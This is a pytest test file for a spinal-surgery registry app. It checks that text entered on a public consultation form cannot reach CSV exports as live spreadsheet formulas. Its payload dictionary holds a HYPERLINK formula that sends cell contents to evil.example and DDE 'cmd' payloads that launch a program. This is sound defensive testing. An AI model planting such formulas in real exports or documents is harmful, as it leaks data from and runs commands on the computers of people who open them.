"""CSV formula injection: text an anonymous person typed on the consultation form (or staff typed
anywhere) reaches identified CSV exports. A cell a spreadsheet would run as a formula is written
with a leading apostrophe (OWASP), and reading the export back restores the text as typed."""

import csv
from datetime import date
from pathlib import Path

import polars as pl
import pytest
from tests.support.consultations import request
from tests.support.records import fusion, new_patient
from tests.support.world import World

from spinetrack.interop.tabular import FORMULA_START, neutralised, read_csv
from spinetrack.services.patient_side.consultations import convert_consultation, submit_consultation
from spinetrack.services.records.register_surgery import register_surgery
from spinetrack.services.registry_io.export_registry import export_registry

PAYLOADS = {
    "given_name": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "family_name": "+cmd|' /C calc'!A0",
    "mrn": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def _cells(path: Path) -> list[str]:
    with path.open(newline="", encoding="utf-8") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def test_formulas_typed_on_the_public_form_reach_no_export_as_formulas(
    world: World, tmp_path: Path
) -> None:
    sessions = world.database.sessions
    received = submit_consultation(
        sessions=sessions,
        clinic_slug="north",
        request=request(given_name=PAYLOADS["given_name"], family_name=PAYLOADS["family_name"]),
        remote="203.0.113.9",
    )
    patient_id = convert_consultation(
        sessions=sessions,
        actor=world.staff,
        clinic_id=world.clinic,
        request_id=received.id,
        patient=new_patient(
            PAYLOADS["mrn"],
            given_name=PAYLOADS["given_name"],
            family_name=PAYLOADS["family_name"],
        ),
    )
    register_surgery(
        sessions=sessions,
        actor=world.clinician,
        clinic_id=world.clinic,
        patient_id=patient_id,
        surgery=fusion(performed_on=date(2025, 3, 4)),
    )
    export_registry(
        sessions=sessions,
        actor=world.clinician,
        clinic_id=world.clinic,
        fmt="csv",
        out=tmp_path,
    )
    checked = 0
    for table in ("patients", "surgeries", "statuses"):
        cells = _cells(tmp_path / f"{table}.csv")
        assert not [c for c in cells if c[:1] in {"=", "+", "-", "@", "\t", "\r"}], table
        assert "'" + PAYLOADS["mrn"] in cells, table
        checked += len(cells)
    assert "'" + PAYLOADS["given_name"] in _cells(tmp_path / "patients.csv")
    patients = read_csv((tmp_path / "patients.csv").read_bytes(), "patients")
    assert patients["given_name"].to_list() == [PAYLOADS["given_name"]]
    assert checked > 20


@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_lead_of_owasp_is_neutralised_and_nothing_else(lead: str) -> None:
    frame = pl.DataFrame({"text": [f"{lead}1+1", "plain", "a=b", None], "n": [-1, 2, 3, 4]})
    out = neutralised(frame)
    assert out["text"].to_list() == [f"'{lead}1+1", "plain", "a=b", None]
    assert out["n"].to_list() == [-1, 2, 3, 4]
    assert FORMULA_START.startswith("^")
